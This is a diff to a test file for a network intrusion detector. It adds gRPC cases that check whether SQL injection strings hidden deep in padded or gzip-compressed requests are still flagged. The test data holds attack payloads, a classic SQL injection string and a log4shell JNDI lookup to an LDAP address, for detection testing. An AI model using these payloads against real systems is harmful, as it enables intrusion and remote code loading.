@@ -13,6 +13,7 @@ import type { ThreatFinding } from '#core/finding.ts';
 import { defaultObservers } from '#sidecar/engine/default-observers.ts';
 import { inspectFile } from '#sidecar/engine/inspect-file.ts';
 import { writePcap } from '#sidecar/pcap/pcap-writer.ts';
+import { protobufText } from '#test/fixtures/protocols/protobuf-encode.ts';
 import { tcpConversation } from './conversation.ts';
 
 const dir = mkdtempSync(join(tmpdir(), 'meshward-padding-'));
@@ -43,10 +44,23 @@ const jndi = '${jndi:ldap://198.51.100.7/a}';
 const get = (target: string, headers = '') => `GET ${target} HTTP/1.1\r\nHost: shop\r\n${headers}\r\n`;
 const post = (type: string, body: string) =>
   `POST /search HTTP/1.1\r\nHost: shop\r\nContent-Type: ${type}\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
+/** A gRPC request over HTTP/1.1 (what the parser bounds the same way): its head, then the framed body's octets. */
+const grpcPost = (body: Uint8Array, encoding = '') => {
+  const extra = encoding === '' ? '' : `grpc-encoding: ${encoding}\r\n`;
+  const head = `POST /shop.Catalog/Search HTTP/1.1\r\nHost: shop\r\nContent-Type: application/grpc\r\n${extra}Content-Length: ${body.length}\r\n\r\n`;
+  return Uint8Array.from([...new TextEncoder().encode(head), ...body]);
+};
+/** gRPC's length-prefixed message ("PROTOCOL-HTTP2": Compressed-Flag, Message-Length, Message). */
+const grpcFrame = (message: ArrayLike<number>, compressed = false) => {
+  const length = [24, 16, 8, 0].map((shift) => (message.length >>> shift) & 0xff);
+  return [compressed ? 1 : 0, ...length, ...Array.from(message)];
+};
+const text1 = (value: string) => protobufText(1, value);
+const grpcSqli = "1' OR '1'='1";
 const fillerHeaders = (count: number) =>
   Array.from({ length: count }, (_, i) => `X-Filler-${i}: a\r\n`).join('');
 
-const cases: { name: string; threat: string; plain: string; padded: string }[] = [
+const cases: { name: string; threat: string; plain: string | Uint8Array; padded: string | Uint8Array }[] = [
   {
     name: 'a JNDI lookup in the 131st header line',
     threat: 'log4shell',
@@ -95,6 +109,38 @@ const cases: { name: string; threat: string; plain: string; padded: string }[] =
     plain: post('application/json', JSON.stringify({ q: "1' OR '1'='1" })),
     padded: post('application/json', JSON.stringify({ pad: 'x'.repeat(60_000), q: "1' OR '1'='1" })),
   },
+  {
+    name: 'a SQL injection in the 20th gRPC message of a request',
+    threat: 'sql-injection',
+    plain: grpcPost(Uint8Array.from(grpcFrame(text1(grpcSqli)))),
+    padded: grpcPost(
+      Uint8Array.from([
+        ...Array.from({ length: 19 }, (_, i) => grpcFrame(text1(`item ${i}`))).flat(),
+        ...grpcFrame(text1(grpcSqli)),
+      ]),
+    ),
+  },
+  {
+    name: 'a SQL injection in the 301st text field of a gRPC message',
+    threat: 'sql-injection',
+    plain: grpcPost(Uint8Array.from(grpcFrame(text1(grpcSqli)))),
+    padded: grpcPost(
+      Uint8Array.from(
+        grpcFrame([...Array.from({ length: 300 }, (_, i) => text1(`item ${i}`)).flat(), ...text1(grpcSqli)]),
+      ),
+    ),
+  },
+  {
+    name: 'a SQL injection after 70000 octets of a gzip-compressed gRPC message',
+    threat: 'sql-injection',
+    plain: grpcPost(Uint8Array.from(grpcFrame(gzipSync(Uint8Array.from(text1(grpcSqli))), true)), 'gzip'),
+    padded: grpcPost(
+      Uint8Array.from(
+        grpcFrame(gzipSync(Uint8Array.from([...text1('a'.repeat(70_000)), ...text1(grpcSqli)])), true),
+      ),
+      'gzip',
+    ),
+  },
 ];
 
 describe('an attack padded past what detectors used to read is still reported', () => {
@@ -140,6 +186,10 @@ describe('an attack padded past what detectors used to read is still reported', 
     expect(await threatsOf(post('application/x-www-form-urlencoded', form))).toEqual([]);
     const items = JSON.stringify({ items: Array.from({ length: 400 }, (_, i) => word(i)) });
     expect(await threatsOf(post('application/json', items))).toEqual([]);
+    // gRPC: the fields past 256 judged as one, a line each (grpc (rest)), in 30 messages past the old 16.
+    const fields = (from: number) => Array.from({ length: 14 }, (_, i) => text1(word(from + i))).flat();
+    const messages = Array.from({ length: 30 }, (_, m) => grpcFrame(fields(m * 14))).flat();
+    expect(await threatsOf(grpcPost(Uint8Array.from(messages)))).toEqual([]);
   });
 
   it('a request line past 64 KiB is skipped, and the request after it judged (no endless re-reading)', async () => {
